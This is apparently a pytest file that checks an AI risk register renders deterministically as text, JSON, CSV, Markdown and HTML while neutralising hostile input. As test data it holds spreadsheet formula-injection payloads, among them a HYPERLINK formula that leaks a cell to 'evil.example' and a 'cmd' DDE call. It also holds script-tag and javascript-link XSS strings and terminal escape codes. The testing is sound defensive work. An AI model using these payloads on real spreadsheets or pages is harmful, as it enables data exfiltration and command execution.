"""The register's formats: each renders the same rows, deterministically, and keeps hostile
text from doing anything (formulas in Excel, markup in Markdown and HTML, escapes in a
terminal)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from engine.records.register.build import (
    COLUMNS,
    REGISTER_SCHEMA,
    Register,
    RegisterRow,
    SystemTotals,
)
from engine.records.register.formats import FORMATS, REGISTER_FORMATS, get_register_format
from engine.records.register.formats.interface import RegisterFormat
from engine.render.spreadsheet import neutralise
from tests.html_tree import external_loads, parse

AS_OF = dt.date(2027, 2, 1)


def row(risk_id: str = "R-1", **overrides: object) -> RegisterRow:
    values: dict[str, object] = {
        "system_id": "alpha",
        "system_name": "Alpha Service",
        "team": "Risk Tools",
        "risk_id": risk_id,
        "title": f"Risk {risk_id}",
        "category": "bias",
        "likelihood": 3,
        "impact": 4,
        "inherent_score": 12,
        "residual_likelihood": 2,
        "residual_impact": 3,
        "residual_score": 6,
        "residual_basis": "assessed",
        "treatment": "mitigate",
        "owner": "Head of Data",
        "open_actions": 1,
        "next_due": "2027-03-31",
        "overdue_actions": 0,
        "controls": ("ISO42001:A.7.4", "EU-AI-ACT:Art.10"),
        "manifest": "alpha/ai-manifest.yaml",
    }
    values.update(overrides)
    return RegisterRow(**values)  # type: ignore[arg-type]


def register(*rows: RegisterRow, errors: tuple[str, ...] = ()) -> Register:
    systems = {
        r.system_id: SystemTotals(r.system_id, r.system_name, r.team, r.manifest) for r in rows
    }
    return Register(as_of=AS_OF, rows=rows, systems=tuple(systems.values()), errors=errors)


UNSCORED = row(
    "R-2",
    residual_likelihood=3,
    residual_impact=4,
    residual_score=12,
    residual_basis="inherent",
    open_actions=0,
    next_due="",
    treatment="",
    controls=(),
)


def render(name: str, value: Register) -> str:
    return get_register_format(name).render(value)


# --- The registry ----------------------------------------------------------------------------


def test_every_registered_format_resolves_to_a_format_of_that_name():
    for name in FORMATS:
        rendered = get_register_format(name)
        assert isinstance(rendered, RegisterFormat)
        assert rendered.name == name
    assert FORMATS == ("text", "json", "csv", "markdown", "html") == tuple(REGISTER_FORMATS)


def test_an_unknown_format_names_the_known_ones():
    with pytest.raises(ValueError, match=r"unknown register format 'xlsx'.*csv"):
        get_register_format("xlsx")


def test_importing_the_package_imports_no_format_module():
    code = (
        "import sys, engine.records.register.formats\n"
        "prefix = 'engine.records.register.formats.'\n"
        "print(','.join(m for m in sys.modules if m.startswith(prefix)))\n"
    )
    loaded = subprocess.run(
        [sys.executable, "-c", code],
        cwd=Path(__file__).resolve().parents[4],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    assert loaded == ""


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_is_deterministic(name):
    value = register(row(), UNSCORED, errors=("bad/ai-manifest.yaml:3: kind: wrong",))
    assert render(name, value) == render(name, dataclasses.replace(value))


# --- csv ------------------------------------------------------------------------------------


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_a_header_row_and_one_row_per_risk_in_column_order():
    records = parse_csv(render("csv", register(row(), UNSCORED)))
    assert records[0] == list(COLUMNS)
    first = dict(zip(COLUMNS, records[1], strict=True))
    assert first["controls"] == "ISO42001:A.7.4; EU-AI-ACT:Art.10"
    assert first["residual_score"] == "6"
    assert dict(zip(COLUMNS, records[2], strict=True))["residual_basis"] == "inherent"


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_would_start_a_formula_are_neutralised(hostile):
    hostile_row = row(title=hostile, owner=hostile, category=hostile, system_name=hostile)
    record = dict(zip(COLUMNS, parse_csv(render("csv", register(hostile_row)))[1], strict=True))
    for column in ("title", "owner", "category", "system_name"):
        assert record[column] == "'" + hostile


def test_csv_leaves_ordinary_text_alone_even_with_formula_characters_inside():
    assert neutralise("Risk = likelihood x impact") == "Risk = likelihood x impact"
    assert neutralise("2027-01-31") == "2027-01-31"
    assert neutralise("") == ""


def test_csv_quotes_commas_quotes_and_line_breaks_as_rfc_4180_says():
    text = render("csv", register(row(title='Says "no",\nthen yes')))
    assert '"Says ""no"",\nthen yes"' in text
    assert parse_csv(text)[1][COLUMNS.index("title")] == 'Says "no",\nthen yes'


# --- json -----------------------------------------------------------------------------------


def test_json_holds_the_rows_the_systems_and_the_errors_with_sorted_keys():
    text = render("json", register(row(), errors=("x: broken",)))
    data = json.loads(text)
    assert data["schema"] == REGISTER_SCHEMA
    assert data["as_of"] == "2027-02-01"
    assert data["risks"][0]["controls"] == ["ISO42001:A.7.4", "EU-AI-ACT:Art.10"]
    assert set(data["risks"][0]) == set(COLUMNS)
    assert data["systems"][0]["system_id"] == "alpha"
    assert data["errors"] == ["x: broken"]
    assert text == json.dumps(data, sort_keys=True, indent=2, ensure_ascii=False) + "\n"


def test_json_keeps_hostile_text_as_it_was_written():
    hostile = "=cmd|' /C calc'!A0"
    assert json.loads(render("json", register(row(title=hostile))))["risks"][0]["title"] == hostile


# --- markdown -------------------------------------------------------------------------------


def table_rows(text: str) -> list[list[str]]:
    """Markdown table lines split on unescaped pipes."""
    rows = []
    for line in text.splitlines():
        if line.startswith("| "):
            cells = line.replace("\\|", "\0").strip("|").split("|")
            rows.append([cell.strip().replace("\0", "|") for cell in cells])
    return rows


def test_markdown_escapes_pipes_markup_and_line_breaks_so_each_value_stays_in_its_cell():
    hostile = "a | b <script>alert(1)</script>\nsecond line & more"
    text = render("markdown", register(row(title=hostile)))
    risk_table = [cells for cells in table_rows(text) if len(cells) == 12]
    assert len(risk_table) == 3  # header, delimiter, the row
    assert "<script>" not in text
    escaped = "a | b &lt;script&gt;alert(1)&lt;/script&gt;<br>second line &amp; more"
    assert risk_table[2][4] == escaped


def test_markdown_has_the_register_the_systems_and_what_was_left_out():
    text = render("markdown", register(row(), UNSCORED, errors=("bad/ai-manifest.yaml: broken",)))
    assert text.startswith("# AI risk register\n\n2 risks in 1 system, 1 open action, 0 overdue")
    assert "| 12 (3x4) not re-scored | 12 (3x4) | alpha | R-2 |" in text
    assert "## Systems" in text
    assert "## Not included (the register is incomplete)\n\n- bad/ai-manifest.yaml: broken" in text


# --- text -----------------------------------------------------------------------------------


def test_text_is_an_aligned_table_with_the_worst_risk_first():
    text = render("text", register(row(), UNSCORED))
    lines = text.splitlines()
    assert lines[0] == (
        "AI risk register: 2 risks in 1 system, 1 open action, 0 overdue as of 2027-02-01"
    )
    header, first, second = lines[2:5]
    expected = {"RESIDUAL": ("6 (2x3)", "12 (3x4) not re-scored"), "RISK": ("R-1", "R-2")}
    expected |= {"NEXT DUE": ("2027-03-31", "-"), "TITLE": ("Risk R-1", "Risk R-2")}
    for column, (top, below) in expected.items():
        start = header.index(column)
        assert first[start:].startswith(top), column
        assert second[start:].startswith(below), column


def test_text_shows_control_characters_instead_of_obeying_them():
    text = render("text", register(row(title="bell\x07 and\nnewline \x1b[31mred")))
    assert "\x07" not in text and "\x1b" not in text
    assert "bell\\x07 and\\x0anewline \\x1b[31mred" in text


def test_text_says_when_there_are_no_risks_and_what_was_left_out():
    empty = Register(
        as_of=AS_OF,
        rows=(),
        systems=(SystemTotals("alpha", "Alpha", "Team", "alpha/ai-manifest.yaml"),),
        errors=("bad/ai-manifest.yaml:1: apiVersion: expected 'ai-assure/v1', got None",),
    )
    text = render("text", empty)
    assert "No risks recorded." in text
    assert "Systems with no risks recorded: alpha" in text
    assert "Not included (the register is incomplete):\n  ! bad/ai-manifest.yaml:1:" in text


# --- html -----------------------------------------------------------------------------------


def test_html_portfolio_page_is_self_contained_and_well_formed():
    page = render("html", register(row(), UNSCORED))
    assert external_loads(page) == []
    tree = parse(page)
    assert tree.find("title").text() == "AI risk register"
    for anchor in ("heat-map", "systems", "register"):
        assert tree.find("section", id=anchor)


def test_html_heat_map_counts_risks_at_their_residual_score():
    page = render("html", register(row("R-1"), row("R-3"), UNSCORED))
    heat = parse(page).find("table", class_="heat")
    rows = heat.find("tbody").find_all("tr")  # likelihood 5 first
    assert rows[5 - 2].find_all("td")[3 - 1].text() == "6 medium 2 risks"
    assert rows[5 - 3].find_all("td")[4 - 1].text() == "12 high 1 risk"  # not re-scored
    assert rows[5 - 1].find_all("td")[1 - 1].text() == "1 low"


def test_html_lists_totals_per_system_and_every_risk():
    value = register(row("R-1"), row("R-9", system_id="bravo", manifest="b/ai-manifest.yaml"))
    value = dataclasses.replace(
        value,
        systems=(
            SystemTotals("alpha", "Alpha Service", "Risk Tools", "a", 1, 6, 1, 0),
            SystemTotals("bravo", "Bravo", "Other", "b", 1, 6, 1, 1),
        ),
    )
    tree = parse(render("html", value))
    systems = [r.text() for r in tree.find("section", id="systems").find("tbody").find_all("tr")]
    assert systems == ["alpha Alpha Service Risk Tools 1 6 1 0", "bravo Bravo Other 1 6 1 1"]
    risks = tree.find("section", id="register").find("tbody").find_all("tr")
    assert [r.find("th").text() for r in risks] == ["R-1", "R-9"]


def test_html_marks_an_incomplete_register_prominently():
    page = render("html", register(row(), errors=("bad/ai-manifest.yaml: broken <b>",)))
    tree = parse(page)
    notice = tree.find("section", id="errors")
    assert notice.find("div", role="alert").find("strong").text() == "INCOMPLETE"
    assert notice.find("li").text() == "bad/ai-manifest.yaml: broken <b>"


def test_html_escapes_hostile_register_text():
    hostile = '<script>alert(1)</script><a href="javascript:x">y</a>'
    page = render("html", register(row(title=hostile, owner=hostile, risk_id=hostile)))
    assert "<script" not in page
    assert parse(page).find_all("a") == []
    assert parse(page).find_all("script") == []
    assert external_loads(page) == []
